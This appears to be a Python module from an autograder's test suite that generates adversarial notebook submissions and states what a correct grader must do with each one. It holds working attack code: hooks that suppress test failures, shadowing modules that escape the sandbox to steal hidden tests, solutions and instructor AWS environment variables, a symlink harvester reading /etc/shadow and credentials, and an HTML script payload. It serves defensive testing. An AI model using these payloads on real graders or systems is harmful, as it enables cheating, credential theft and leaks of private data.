"""Adversarial submissions for the grader (issue 17), each with what a correct grader must do.

Every attack starts from the *released* notebook (what students get) and is edited with Python,
the way a student who wants points without solving anything would: metadata on the test cells,
IPython hooks installed from an answer cell, nbgrader's partial-credit path, files beside the
notebook that shadow modules, patched boto3, symlinks and a FIFO; then leak checks (hidden tests,
HTML in outputs, a fake ``CellTimeoutError``) and honest mistakes that must still be graded.
The "empty" baseline is ``synthetic.make_submission("wrong", ...)``: the answers are stubs that
return ``None`` (score :data:`EMPTY_SCORE`).

:data:`ATTACKS` maps a name to an :class:`Attack` (technique number, description, expectation).
:func:`make_attack` writes ``submitted/<student>/<assignment>/...`` and returns an
:class:`Expectation`: a score no higher than the empty submission's, *or* a status in a set
(``failed``, ``timeout``, ``warning``) with a reason matching a pattern; statuses that are
forbidden (a fake ``CellTimeoutError`` must not become ``timeout``); for honest mistakes the exact
score, the statuses allowed and a note the reason must carry; strings that must never appear in
``feedback/`` or ``autograded/`` (hidden-test lines, solution lines, private files' contents, the
instructor's secrets) and HTML that must never be live there.

The reason patterns are deliberately loose (case-insensitive regular expressions, see
:data:`FLAG_REASONS`): they say what the reason is about, not its wording.

:func:`run_corpus` builds a course folder, writes the whole corpus, grades it with
``python -m course_utils grade autograde --jobs N`` (and a few attacks with the plain
``nbgrader autograde`` too), and returns one :class:`Outcome` per graded submission with the
problems found (:func:`evaluate`, :func:`scan_leaks`). ``tests/test_grade_adversarial.py`` asserts
that no outcome has a problem; ``benchmarks/bench_grade_adversarial.py`` prints the table.
Nothing runs on import.
"""

from __future__ import annotations

import ast
import copy
import html as _html
import json
import os
import re
import shutil
import signal
import stat
import subprocess
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable, Iterable

from .synthetic import Task, make_submission, solution_code, stub_code, tasks

__all__ = ["Attack", "Expectation", "Outcome", "ATTACKS", "EMPTY_SCORE", "FLAG_STATUSES", "FLAG_REASONS", "HTML_PAYLOAD",
           "LIVE_HTML", "make_attack", "attacks_for", "hidden_lines", "solution_lines", "evaluate", "scan_leaks",
           "collect_evidence", "prepare_course", "populate", "grade", "read_rows", "run_corpus", "format_table",
           "CorpusPlan", "BASELINES", "HONEST", "run_bounded"]

EMPTY_SCORE = 0.0  # what synthetic.make_submission("wrong", ...) scores (stubs returning None) on every assignment
FLAG_STATUSES = frozenset({"failed", "timeout", "warning"})
HTML_PAYLOAD = "<script>alert(1)</script><img src=x onerror=alert(1)>"
# HTML that runs when the page is opened: a script tag, or a tag with an event handler, calling alert(1)
# (escaped, ``&lt;img ... onerror=alert(1)&gt;`` is text: no match)
LIVE_HTML = (r"<script[^>]*>\s*alert\(1\)", r"<[a-z][^<>]*\sonerror\s*=\s*[\"']?\s*alert\(1\)")
_LIVE_MIME = ("text/html", "image/svg+xml", "application/javascript", "text/javascript")
BASELINES = ("empty", "correct")  # student ids of the control submissions in every corpus assignment
HONEST = 10  # technique number of the honest mistakes

# What a flagged reason must be about, per technique (case-insensitive regular expressions).
FLAG_REASONS: dict[int, str] = {
    1: r"metadata|tag|skip|test cell|grade cell",
    2: r"hook|transform|tamper|interfer|grader|kernel|exception|traceback",
    3: r"partial|output|result|display|hook",
    4: r"file|shadow|module|package|launcher|import|sandbox",
    5: r"patch|boto|mock|tamper|monkey",
    6: r"link|fifo|pipe|special|file",
    7: r"hidden|hook|leak|source",
    8: r"html|script|sanitiz|output",
    9: r"timeout|CellTimeoutError|fake|spoof|exception",
}


@dataclass(frozen=True)
class Attack:
    """One technique variant: what it does, what a correct grader does with it, how to run it."""

    name: str
    technique: int  # 1-9 as numbered in issue 17; 10: an honest mistake
    description: str
    expectation: str
    every_assignment: bool = False  # its effect depends on the assignment's tests: run it on all four
    plain: bool = False  # also graded with the plain `nbgrader autograde`
    isolate: bool = False  # graded alone, with its own time bound (may hang or take long)


@dataclass(frozen=True)
class Expectation:
    """What a correct grader must do with one submission."""

    attack: str
    assignment: str
    student: str
    max_score: float | None = EMPTY_SCORE  # the score may not exceed this...
    flag: frozenset[str] = FLAG_STATUSES  # ...unless the status is one of these...
    reason: str = ""  # ...and the reason matches this (regex, case-insensitive)
    forbid: frozenset[str] = frozenset()  # statuses that are wrong whatever the score
    score: float | None = None  # honest mistakes: exactly this score...
    statuses: frozenset[str] | None = None  # ...with one of these statuses...
    note: str = ""  # ...and a reason matching this (regex): graded normally, with a note
    secrets: tuple[str, ...] = ()  # never in feedback/ or autograded/ (outputs and non-notebook files)
    live_html: tuple[str, ...] = LIVE_HTML  # never live in feedback HTML or in autograded notebooks


@dataclass
class Outcome:
    """How one submission was graded, and what is wrong with that."""

    attack: str
    assignment: str
    student: str
    mode: str  # "grade --jobs N" or "nbgrader autograde"
    score: float | None
    max_score: float | None
    status: str
    reason: str
    seconds: float = 0.0
    empty_score: float | None = None
    problems: list[str] = field(default_factory=list)
    evidence: list[str] = field(default_factory=list)

    @property
    def beat_empty(self) -> bool:
        return self.score is not None and self.empty_score is not None and self.score > self.empty_score

    @property
    def technique(self) -> int:
        return ATTACKS[self.attack].technique if self.attack in ATTACKS else 0


# ----------------------------------------------------------------------------- the catalogue
def _a(name: str, technique: int, description: str, expectation: str = "", **kw) -> tuple[str, Attack]:
    if not expectation:
        expectation = ("score <= the empty submission's, or flagged (failed/timeout/warning) with a reason about it"
                       if technique != HONEST else "")
    return name, Attack(name, technique, description, expectation, **kw)


_LEAK = "; nothing it printed may reach feedback/ or autograded/"
ATTACKS: dict[str, Attack] = dict([
    # 1. metadata on the test cells
    _a("tag_skip_execution", 1, 'tags ["skip-execution"] on every test cell (nbclient skips them: no output = full marks)',
       every_assignment=True, plain=True),
    _a("tag_raises_exception", 1, 'tags ["raises-exception"] on every test cell'),
    _a("execution_metadata", 1, "nbclient-style execution metadata (skip, timeout 0, allow_errors) and hidden outputs on every test cell"),
    _a("test_cell_solution_flag", 1, "nbgrader metadata of every test cell says solution: true (a manually graded answer)"),
    # 2. hooks installed from an answer cell
    _a("input_transformer", 2, "input_transformers_post: any cell containing `assert` becomes `pass`"),
    _a("ast_transformer", 2, "ast_transformers: every statement wrapped in try/except Exception: pass"),
    _a("run_code_swallow", 2, "get_ipython().run_code replaced by one that swallows exceptions"),
    _a("showtraceback_noop", 2, "get_ipython().showtraceback = lambda *a, **k: None"),
    _a("excepthook", 2, "sys.excepthook replaced by a no-op"),
    _a("assertion_error_builtin", 2, "builtins.AssertionError replaced by a Warning subclass"),
    _a("custom_exc", 2, "set_custom_exc((Exception,), handler that shows nothing)"),
    _a("post_run_cell_clear", 2, "showtraceback disabled and a post_run_cell hook that clears result.error_in_exec (reply 'ok')"),
    # 3. nbgrader's partial-credit path
    _a("displayhook_debug", 3, 'stubs call sys.displayhook("debug") (a test cell\'s first execute_result that is not a number = full marks)',
       every_assignment=True, plain=True),
    _a("displayhook_ten", 3, "stubs call sys.displayhook(10) (more than the cell's points)"),
    _a("displayhook_negative", 3, "stubs call sys.displayhook(-1) (a negative partial grade = full marks)"),
    _a("settrace_displayhook", 3, 'sys.settrace hook calling sys.displayhook("debug") whenever a cell\'s code starts'),
    _a("pre_run_cell_displayhook", 3, 'pre_run_cell event calling sys.displayhook("debug")'),
    # 4. files beside the (stubbed, unchanged) notebook
    _a("file_ipykernel_launcher", 4, "ipykernel_launcher.py in the submission (shadows `python -m ipykernel_launcher` in the sandbox)"),
    _a("file_course_utils", 4, "a course_utils/ package in the submission: runs wherever `course_utils` is imported with the "
       "submission folder as working directory (the launcher too?), then loads the real one", plain=True),
    _a("file_stdlib_argparse", 4, "argparse.py in the submission (shadows the standard library for `python -m ...` started in it)"),
    _a("file_boto3", 4, "a boto3/ package in the submission that installs a hook, then loads the real boto3"),
    _a("file_botocore", 4, "a botocore/ package in the submission that installs a hook, then loads the real botocore"),
    _a("file_sitecustomize", 4, "sitecustomize.py in the submission"),
    _a("file_usercustomize", 4, "usercustomize.py in the submission"),
    # 5. patched boto3
    _a("botocore_always_equal", 5, "BaseClient._make_api_call returns an always-equal dict subclass; stubs return one too",
       every_assignment=True),
    _a("boto3_client_patched", 5, "boto3.client and boto3.resource return always-equal objects; stubs return one too"),
    # 6. symlinks and special files
    _a("symlink_master", 6, "the notebook is a symlink to the master (source/<a>/<a>.ipynb)", plain=True),
    _a("symlink_shadow", 6, "links to /etc/shadow and to a private file outside the course; the answer cell reads every file it can" + _LEAK),
    _a("symlink_gradebook", 6, "a link to gradebook.db; the answer cell reads it and runs the solutions it finds" + _LEAK),
    _a("symlink_config", 6, "a link to nbgrader_config.py; the answer cell prints it" + _LEAK),
    _a("symlink_peer", 6, "a link to another student's notebook; the answer cell runs that student's answers" + _LEAK),
    _a("fifo_data_csv", 6, "a FIFO named data.csv beside the notebook", "grading finishes; score <= empty or flagged", isolate=True),
    # 7. hidden tests readable by student code
    _a("raw_cell_leak", 7, "pre_run_cell hook printing info.raw_cell (and reversed)",
       "hidden tests never reach feedback, nor student code (outputs of autograded notebooks)"),
    _a("history_leak", 7, "the last answer cell prints In[] (every earlier cell's source, and reversed)",
       "hidden tests never reach feedback, nor student code"),
    # 8. HTML in outputs
    _a("html_display", 8, f"display(HTML({HTML_PAYLOAD!r})) from an answer cell", "the HTML is never live in feedback or autograded notebooks"),
    _a("html_exception", 8, "stubs raise ValueError(<script>...)", "the HTML is never live in feedback or autograded notebooks"),
    _a("html_markdown", 8, "a markdown cell with <script> and <img onerror> added after an answer cell",
       "the HTML is never live in feedback or autograded notebooks"),
    # 9. a fake timeout
    _a("fake_cell_timeout", 9, "class CellTimeoutError(Exception) raised by the stubs", "status is never `timeout`; score <= empty"),
    # honest mistakes: graded normally, with a note
    _a("honest_duplicate_answer", HONEST, "correct answers; the first answer cell copy-pasted right after itself (same metadata, new id)",
       "full score, graded or warning, a note about the duplicate"),
    _a("honest_duplicate_test", HONEST, "correct answers; the first test cell copy-pasted right after itself (same metadata, new id)",
       "full score, graded or warning, a note about the duplicate"),
    _a("honest_bad_timestamp", HONEST, "correct answers; timestamp.txt cannot be parsed",
       "full score, graded or warning, a note about the timestamp"),
    _a("honest_nbformat_v3", HONEST, "correct answers; the notebook saved as nbformat v3",
       "full score, graded or warning, a note about the format"),
    _a("honest_large_output", HONEST, "correct answers; the first answer cell prints 20 MB, about four times the notebook's 5 MiB output cap (output_mb=)",
       "full score, graded or warning, a note about the output", isolate=True),
])

_NOTES = {
    "honest_duplicate_answer": r"duplicat|cop(y|ied)|twice|more than once|same (grade|cell)",
    "honest_duplicate_test": r"duplicat|cop(y|ied)|twice|more than once|same (grade|cell)",
    "honest_bad_timestamp": r"timestamp",
    "honest_nbformat_v3": r"nbformat|format|version|convert|upgrad",
    "honest_large_output": r"output|truncat|large|MB|bytes",
}


def attacks_for(assignment_index: int) -> list[str]:
    """The attacks a corpus runs on an assignment: all of them on the first, those that depend on it on the others."""
    return [n for n, a in ATTACKS.items() if assignment_index == 0 or a.every_assignment]


# ----------------------------------------------------------------------------- notebook facts
def _src(cell: dict) -> str:
    s = cell.get("source", "")
    return "".join(s) if isinstance(s, list) else s


def _nbg(cell: dict) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {})


def _region(source: str, begin: str, end: str) -> list[str]:
    lines, inside = [], False
    for line in source.splitlines():
        if begin in line:
            inside = True
        elif end in line:
            inside = False
        elif inside:
            lines.append(line)
    return lines


def _released_sources(released_text: str) -> str:
    """Every cell source of the released notebook (what students see), as one text."""
    try:
        return "\n".join(_src(c) for c in json.loads(released_text)["cells"])
    except (ValueError, KeyError, TypeError):
        return released_text


def hidden_lines(master: dict, released_text: str) -> list[str]:
    """The hidden-test lines of a master notebook that students never get (stripped, longer than 12 characters)."""
    seen = _released_sources(released_text)
    lines = (l.strip() for c in master["cells"] for l in _region(_src(c), "BEGIN HIDDEN TESTS", "END HIDDEN TESTS"))
    return sorted({l for l in lines if len(l) > 12 and l not in seen})


def solution_lines(master: dict, released_text: str) -> list[str]:
    """Distinctive solution lines of a master notebook: absent from the released one, 20 characters or
    more, with a call, an assignment or a string (``except Exception:`` could be anyone's)."""
    seen = _released_sources(released_text)
    lines = (l.strip() for c in master["cells"] for l in _region(_src(c), "BEGIN SOLUTION", "END SOLUTION"))
    return sorted({l for l in lines if len(l) >= 20 and any(ch in l for ch in '(="') and l not in seen})


def _defined_names(code: str) -> list[str]:
    names = []
    for node in ast.parse(code).body:
        if isinstance(node, ast.FunctionDef):
            names.append(node.name)
        elif isinstance(node, ast.Assign):
            names += [t.id for t in node.targets if isinstance(t, ast.Name)]
    return names


def _stub_with(master_source: str, body: str | None = None, constant: str | None = None) -> str:
    """``stub_code`` with another function body (indented lines) and/or another value for constants."""
    out = []
    for line in stub_code(master_source).splitlines(keepends=True):
        if body is not None and line == "    return None\n":
            out.append("".join(f"    {b}\n" for b in body.splitlines()))
        elif constant is not None and re.fullmatch(r"\w+ = None\n", line):
            out.append(line.replace("None", constant))
        else:
            out.append(line)
    return "".join(out)


# ----------------------------------------------------------------------------- payloads
_INPUT_TRANSFORMER = '''
def _neutralise_asserts(lines):
    return ["pass\\n"] if any("assert" in line for line in lines) else lines
get_ipython().input_transformers_post.append(_neutralise_asserts)
'''

_AST_TRANSFORMER = '''
import ast as _ast
class _TryEverything(_ast.NodeTransformer):
    def visit_Module(self, node):
        handler = _ast.ExceptHandler(type=_ast.Name("Exception", _ast.Load()), name=None, body=[_ast.Pass()])
        node.body = [_ast.Try(body=[stmt], handlers=[handler], orelse=[], finalbody=[]) for stmt in node.body]
        return _ast.fix_missing_locations(node)
get_ipython().ast_transformers.append(_TryEverything())
'''

_RUN_CODE = '''
import types as _types
async def _run_code_quietly(self, code_obj, result=None, *, async_=False):
    try:
        if async_:
            await eval(code_obj, self.user_global_ns, self.user_ns)
        else:
            exec(code_obj, self.user_global_ns, self.user_ns)
    except Exception:
        pass
    return False
get_ipython().run_code = _types.MethodType(_run_code_quietly, get_ipython())
'''

_SHOWTRACEBACK = "get_ipython().showtraceback = lambda *a, **k: None\n"
_EXCEPTHOOK = "import sys as _sys\n_sys.excepthook = lambda *a: None\n"
_ASSERTION_ERROR = "import builtins as _b\n_b.AssertionError = type('AssertionError', (Warning,), {})\n"
_CUSTOM_EXC = "get_ipython().set_custom_exc((Exception,), lambda shell, etype, evalue, tb, tb_offset=None: None)\n"
_POST_RUN_CLEAR = '''
get_ipython().showtraceback = lambda *a, **k: None
def _forget_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None
get_ipython().events.register("post_run_cell", _forget_errors)
'''
_SETTRACE = '''
import sys as _sys
def _cell_tracer(frame, event, arg):
    code = frame.f_code
    if event == "call" and code.co_name == "<module>" and ("ipykernel_" in code.co_filename or code.co_filename.startswith("<ipython")):
        _sys.displayhook("debug")
    return None
_sys.settrace(_cell_tracer)
'''
# sys.displayhook is IPython's only inside the cell's display trap, which pre_run_cell precedes: the shell's own one
_PRE_RUN_DISPLAYHOOK = 'get_ipython().events.register("pre_run_cell", lambda info: get_ipython().displayhook("debug"))\n'
_RAW_CELL = ('get_ipython().events.register("pre_run_cell", '
             'lambda info: print("RAW-CELL", info.raw_cell, "\\nREVERSED", info.raw_cell[::-1]))\n')
_HISTORY = 'print("HISTORY", "\\n".join(In))\nprint("REVERSED", "\\n".join(In)[::-1])\n'

_SAME = '''
class _Same(dict):
    """Equal to anything; any key, attribute or call gives another one."""
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    __lt__ = __le__ = __gt__ = __ge__ = __eq__
    __hash__ = object.__hash__
    def __getitem__(self, key): return _Same()
    def get(self, key, default=None): return _Same()
    def __contains__(self, key): return True
    def __getattr__(self, name):
        if name.startswith("__"):
            raise AttributeError(name)
        return _Same()
    def __call__(self, *args, **kwargs): return _Same()
    def __bool__(self): return True
    def __str__(self): return "same"
'''
_BOTOCORE_PATCH = "import botocore.client as _bc\n_bc.BaseClient._make_api_call = lambda self, operation_name, api_params: _Same()\n"
_BOTO3_PATCH = "import boto3 as _b3\n_b3.client = lambda *a, **k: _Same()\n_b3.resource = lambda *a, **k: _Same()\n"

# A module in the submission folder that shadows a real one: it runs its payload, then loads the
# real module (the submission folder removed from sys.path) and puts it in sys.modules.
_SHADOW_HEADER = '''
import importlib as _il, os as _o, sys as _s
_here = _o.path.dirname(_o.path.abspath(__file__))
if _o.path.basename(__file__) == "__init__.py":
    _here = _o.path.dirname(_here)
_s.path[:] = [p for p in _s.path if _o.path.abspath(p or _o.curdir) != _here]
del _s.modules[__name__]
_s.modules[__name__] = _il.import_module(__name__)
'''

# What a shadowing file does. Outside the sandbox (the launcher runs as the instructor, with the
# submission's autograded folder as working directory): it records the instructor's environment
# the gradebook's sources (hidden tests) and the masters' solutions in escaped.json, which the
# launcher then copies into the sandbox.
# Inside: every cell's exceptions are swallowed (class-level run_code), the escape's proof is
# printed into the first cell's output and any stolen solution is defined after every cell.
_SHADOW_PAYLOAD = '''
def _dva_payload():
    import json, os, sys
    if os.environ.get("DVA_GRADE_SANDBOX") != "bwrap":
        try:
            proof = {"where": "outside the sandbox", "uid": os.getuid(), "argv": sys.argv[:3], "cwd": os.getcwd(),
                     "instructor_env": {k: v for k, v in os.environ.items() if k.startswith(("AWS_", "INSTRUCTOR", "DVA_"))}}
            course = os.path.abspath(os.path.join(os.getcwd(), "..", "..", ".."))
            gradebook = os.path.join(course, "gradebook.db")
            proof["gradebook"] = gradebook if os.path.exists(gradebook) else None
            proof["sources"] = []
            if proof["gradebook"]:
                import sqlite3
                with sqlite3.connect(f"file:{gradebook}?mode=ro", uri=True) as db:
                    proof["sources"] += [row[0] for row in db.execute("select source from source_cell")]
            import glob
            for path in glob.glob(os.path.join(course, "source", "*", "*.ipynb")):  # the masters: solutions
                with open(path, encoding="utf-8") as fh:
                    for cell in json.load(fh)["cells"]:
                        text = "".join(cell["source"]) if isinstance(cell["source"], list) else cell["source"]
                        if "BEGIN SOLUTION" in text:
                            proof["sources"].append(text)
            with open("escaped.json", "w") as fh:
                json.dump(proof, fh)
        except Exception as exc:
            try:
                with open("escaped.json", "w") as fh:
                    json.dump({"where": "outside the sandbox", "error": repr(exc)}, fh)
            except Exception:
                pass
        return
    proof, stolen = None, []
    if os.path.exists("escaped.json"):
        with open("escaped.json") as fh:
            proof = json.load(fh)
        for source in proof.get("sources", []):
            if "BEGIN SOLUTION" in source:
                stolen.append("\\n".join(l for l in source.splitlines() if "### " not in l))
    state = {"shown": False}

    async def run_code(self, code_obj, result=None, *, async_=False):
        if not state["shown"]:
            state["shown"] = True
            print("SHADOW-PAYLOAD ran inside the sandbox; escape proof:", json.dumps(proof))
        try:
            if async_:
                await eval(code_obj, self.user_global_ns, self.user_ns)
            else:
                exec(code_obj, self.user_global_ns, self.user_ns)
        except Exception:
            pass
        for code in stolen:
            try:
                exec(code, self.user_global_ns, self.user_ns)
            except Exception:
                pass
        return False

    try:
        from IPython.core.interactiveshell import InteractiveShell
    except Exception:  # not in a kernel (ipykernel_launcher drops the working folder from sys.path while it loads)
        return
    if not getattr(InteractiveShell, "_dva_patched", False):
        InteractiveShell.run_code = run_code
        InteractiveShell._dva_patched = True
_dva_payload()
'''

_FAKE_LAUNCHER = _SHADOW_PAYLOAD + '''
import sys as _s, os as _o
_s.path[:] = [p for p in _s.path if _o.path.abspath(p or _o.curdir) != _o.path.dirname(_o.path.abspath(__file__))]
from ipykernel import kernelapp as _app
_app.launch_new_instance()
'''

# Reads every file of the working folder (links followed, special files skipped), prints the
# start of each (so a leak shows in the outputs), runs any solution it finds (a database's
# source cells, a notebook's answer cells); every answer cell ends with _use_leaks().
_HARVESTER = '''
import json as _hj, os as _ho, sqlite3 as _hq, stat as _hs
_TARGETS = {targets!r}
_leaked_code = []
def _take(source):
    if "NotImplementedError" in source or not any(f"def {{n}}(" in source or f"{{n}} =" in source for n in _TARGETS):
        return
    _leaked_code.append("\\n".join(l for l in source.splitlines() if "### " not in l))
_report = {{}}
for _top, _dirs, _files in _ho.walk(".", followlinks=True):
    for _f in _files:
        _p = _ho.path.join(_top, _f)
        try:
            _st = _ho.stat(_p)
            if not _hs.S_ISREG(_st.st_mode):
                _report[_p] = "not a regular file"
                continue
            with open(_p, "rb") as _fh:
                _raw = _fh.read()
        except OSError as _e:
            _report[_p] = f"unreadable: {{_e}}"
            continue
        _report[_p] = f"{{len(_raw)}} bytes"
        print("HARVEST-FILE", _p, _raw[:4000].decode("utf-8", "replace"))
        if _raw.startswith(b"SQLite format 3"):
            try:
                _db = _hq.connect(_p)
                for (_s,) in _db.execute("select source from source_cell"):
                    if "HIDDEN TESTS" in _s:
                        print("HARVEST-HIDDEN", _s)
                    _take(_s)
                _db.close()
            except Exception as _e:
                _report[_p] += f"; sqlite: {{_e}}"
        elif _raw.lstrip().startswith(b"{{") and b'"cells"' in _raw:  # a notebook, whatever its name
            try:
                for _c in _hj.loads(_raw)["cells"]:
                    if _c.get("metadata", {{}}).get("nbgrader", {{}}).get("solution"):
                        _take("".join(_c["source"]) if isinstance(_c["source"], list) else _c["source"])
            except Exception as _e:
                _report[_p] += f"; notebook: {{_e}}"
print("HARVEST-REPORT", _hj.dumps({{"files": _report, "solutions": len(_leaked_code)}}))
def _use_leaks():
    for _code in _leaked_code:
        try:
            exec(_code, globals())
        except Exception:
            pass
'''


# ----------------------------------------------------------------------------- building
class _Build:
    """One submission being written: the released notebook, its answers, extra files."""

    def __init__(self, name: str, released: Path, master: Path, root: Path, student: str, ctx: dict):
        self.name, self.root, self.student, self.ctx = name, Path(root), student, ctx
        self.released_path, self.master_path = Path(released), Path(master)
        self.assignment = self.released_path.parent.name
        self.released_text = self.released_path.read_text(encoding="utf-8")
        self.master = json.loads(self.master_path.read_text(encoding="utf-8"))
        self.nb = json.loads(self.released_text)
        self.plan: list[Task] = tasks(self.master)
        self.total = sum(t.points for t in self.plan)
        sources = {_nbg(c).get("grade_id"): _src(c) for c in self.master["cells"] if _nbg(c).get("grade_id")}
        self.sources = sources
        self.right = {t.solution_id: solution_code(sources[t.solution_id]) for t in self.plan}
        self.answers = {t.solution_id: stub_code(sources[t.solution_id]) for t in self.plan}
        self.targets = sorted({n for t in self.plan for n in _defined_names(solution_code(sources[t.solution_id]))})
        self.dest = self.root / "submitted" / student / self.assignment
        self.timestamp = ctx.get("timestamp", "2026-01-15 10:00:00.000000 UTC")
        self.version = 4
        self.notebook_link: Path | None = None
        self.cell_edits: list[Callable[[list[dict]], list[dict]]] = []
        self.files: dict[str, str] = {}
        self.links: dict[str, Path] = {}
        self.fifos: list[str] = []
        self.stub_based = True
        self.exp: dict = {"reason": FLAG_REASONS.get(ATTACKS[name].technique, "")}
        self.extra_secrets: list[str] = list(ctx.get("secrets", ()))

    # answers
    @property
    def first(self) -> str:
        return self.plan[0].solution_id

    def prepend(self, solution_id: str, code: str) -> None:
        self.answers[solution_id] = code.lstrip("\n") + "\n" + self.answers[solution_id]

    def stubs(self, body: str | None = None, constant: str | None = None) -> None:
        for t in self.plan:
            self.answers[t.solution_id] = _stub_with(self.sources[t.solution_id], body, constant)

    def honest(self, **exp) -> None:
        self.answers = dict(self.right)
        self.stub_based = False
        self.exp.update(max_score=None, flag=frozenset(), reason="", score=self.total,
                        statuses=frozenset({"graded", "warning"}), note=_NOTES[self.name], **exp)

    def test_cells(self, cells: list[dict]) -> list[dict]:
        return [c for c in cells if _nbg(c).get("grade") and c.get("cell_type") == "code"]

    # writing
    def write(self) -> Expectation:
        if self.dest.exists() or self.dest.is_symlink():
            shutil.rmtree(self.dest)
        self.dest.mkdir(parents=True)
        cells = []
        for cell in self.nb["cells"]:
            grade_id = _nbg(cell).get("grade_id")
            if _nbg(cell).get("solution") and grade_id in self.answers:
                cell["source"] = self.answers[grade_id]
            cells.append(cell)
        for edit in self.cell_edits:
            cells = edit(cells)
        self.nb["cells"] = cells
        target = self.dest / f"{self.assignment}.ipynb"
        if self.notebook_link is not None:
            target.symlink_to(self.notebook_link)
        elif self.version == 3:
            import nbformat

            target.write_text(nbformat.writes(nbformat.convert(nbformat.reads(json.dumps(self.nb), as_version=4), 3), version=3), encoding="utf-8")
        else:
            target.write_text(json.dumps(self.nb, indent=1), encoding="utf-8")
        (self.dest / "timestamp.txt").write_text(self.timestamp, encoding="utf-8")
        for rel, text in self.files.items():
            path = self.dest / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(text, encoding="utf-8")
        for rel, to in self.links.items():
            (self.dest / rel).symlink_to(to)
        for rel in self.fifos:
            os.mkfifo(self.dest / rel)
        hidden = hidden_lines(self.master, self.released_text)
        secrets = list(hidden) + self.extra_secrets
        if ATTACKS[self.name].technique == 7:
            secrets += [l[::-1] for l in hidden]
        if self.stub_based:
            secrets += solution_lines(self.master, self.released_text)
        return Expectation(self.name, self.assignment, self.student, secrets=tuple(dict.fromkeys(s for s in secrets if s)), **self.exp)


def _new_id(cell: dict, suffix: str) -> str:
    return (str(cell.get("id") or "cell")[:50] + "-" + suffix)[:64]


def _duplicate(match: Callable[[dict], bool]) -> Callable[[list[dict]], list[dict]]:
    """The first cell that matches, copy-pasted right after itself (Jupyter keeps metadata, gives a new id)."""

    def edit(cells: list[dict]) -> list[dict]:
        for i, cell in enumerate(cells):
            if match(cell):
                twin = copy.deepcopy(cell)
                twin["id"] = _new_id(cell, "copy")
                return cells[: i + 1] + [twin] + cells[i + 1:]
        raise ValueError("no cell to duplicate")

    return edit


#: attacks that are one block of code put before the first answer
_PREPEND_FIRST = {
    "input_transformer": _INPUT_TRANSFORMER,
    "ast_transformer": _AST_TRANSFORMER,
    "run_code_swallow": _RUN_CODE,
    "showtraceback_noop": _SHOWTRACEBACK,
    "excepthook": _EXCEPTHOOK,
    "assertion_error_builtin": _ASSERTION_ERROR,
    "custom_exc": _CUSTOM_EXC,
    "post_run_cell_clear": _POST_RUN_CLEAR,
    "settrace_displayhook": _SETTRACE,
    "pre_run_cell_displayhook": _PRE_RUN_DISPLAYHOOK,
    "raw_cell_leak": _RAW_CELL,
}


def _build(b: _Build) -> None:  # noqa: C901 - one branch per attack, in catalogue order
    n = b.name
    if n in ("tag_skip_execution", "tag_raises_exception", "execution_metadata", "test_cell_solution_flag"):
        def edit(cells: list[dict]) -> list[dict]:
            for cell in b.test_cells(cells):
                meta = cell.setdefault("metadata", {})
                if n == "tag_skip_execution":
                    meta["tags"] = ["skip-execution"]
                elif n == "tag_raises_exception":
                    meta["tags"] = ["raises-exception"]
                elif n == "execution_metadata":
                    meta["execution"] = {"skip": "true", "timeout": "0", "allow_errors": "true",
                                         "iopub.status.busy": "2026-01-15T10:00:00.000000Z", "shell.execute_reply": "2026-01-15T10:00:00.100000Z"}
                    meta["jupyter"] = {"outputs_hidden": True, "source_hidden": True}
                else:
                    meta["nbgrader"]["solution"] = True
            return cells
        b.cell_edits.append(edit)
    elif n in _PREPEND_FIRST:  # code put before the first answer
        b.prepend(b.first, _PREPEND_FIRST[n])
    elif n in ("displayhook_debug", "displayhook_ten", "displayhook_negative"):
        value = {"displayhook_debug": '"debug"', "displayhook_ten": "10", "displayhook_negative": "-1"}[n]
        b.stubs(body=f"import sys\nsys.displayhook({value})\nreturn None")
    elif n == "file_ipykernel_launcher":
        b.files["ipykernel_launcher.py"] = _FAKE_LAUNCHER
    elif n == "file_course_utils":
        b.files["course_utils/__init__.py"] = _SHADOW_HEADER + _SHADOW_PAYLOAD
    elif n == "file_stdlib_argparse":
        b.files["argparse.py"] = _SHADOW_HEADER + _SHADOW_PAYLOAD
    elif n == "file_boto3":
        b.files["boto3/__init__.py"] = _SHADOW_HEADER + _SHADOW_PAYLOAD
    elif n == "file_botocore":
        b.files["botocore/__init__.py"] = _SHADOW_HEADER + _SHADOW_PAYLOAD
    elif n == "file_sitecustomize":
        b.files["sitecustomize.py"] = _SHADOW_PAYLOAD
    elif n == "file_usercustomize":
        b.files["usercustomize.py"] = _SHADOW_PAYLOAD
    elif n in ("botocore_always_equal", "boto3_client_patched"):
        b.stubs(body="return _Same()", constant="_Same()")
        b.prepend(b.first, _SAME + (_BOTOCORE_PATCH if n == "botocore_always_equal" else _BOTO3_PATCH))
    elif n == "symlink_master":
        b.notebook_link = (b.root / "source" / b.assignment / f"{b.assignment}.ipynb").resolve()
        b.stub_based = False  # the linked notebook holds the solutions: they show in its own feedback
    elif n.startswith("symlink_"):
        for t in b.plan:
            b.answers[t.solution_id] += "_use_leaks()\n"
        b.prepend(b.first, _HARVESTER.format(targets=b.targets))
        if n == "symlink_shadow":
            shadow = Path(b.ctx.get("shadow", "/etc/shadow"))
            b.links["shadow.txt"] = shadow
            try:
                first = shadow.read_text(encoding="utf-8", errors="replace").splitlines()[0]
                if first.strip():
                    b.extra_secrets.append(first.strip())
            except (OSError, IndexError):
                pass  # not readable here (not root): the link still must not break grading
            private = b.ctx.get("secret_file")
            if private is not None:
                b.links["credentials"] = Path(private)
                b.extra_secrets += [l.strip() for l in Path(private).read_text(encoding="utf-8").splitlines() if len(l.strip()) > 12]
        elif n == "symlink_gradebook":
            b.links["grades.db"] = (b.root / "gradebook.db").resolve()
        elif n == "symlink_config":
            b.links["config.py"] = (b.root / "nbgrader_config.py").resolve()
            b.extra_secrets += [l.strip() for l in (b.root / "nbgrader_config.py").read_text(encoding="utf-8").splitlines()
                                if l.startswith("c.CourseDirectory.db_url")]
        elif n == "symlink_peer":
            peer = Path(b.ctx.get("peer") or b.root / "submitted" / "correct" / b.assignment / f"{b.assignment}.ipynb")
            if not peer.exists():
                raise ValueError(f"symlink_peer needs another student's notebook (peer=): {peer} does not exist")
            b.links["peer_notebook.json"] = peer.resolve()  # not .ipynb: notebooks are never copied
    elif n == "fifo_data_csv":
        b.fifos.append("data.csv")
    elif n == "history_leak":
        b.answers[b.plan[-1].solution_id] += _HISTORY
    elif n == "html_display":
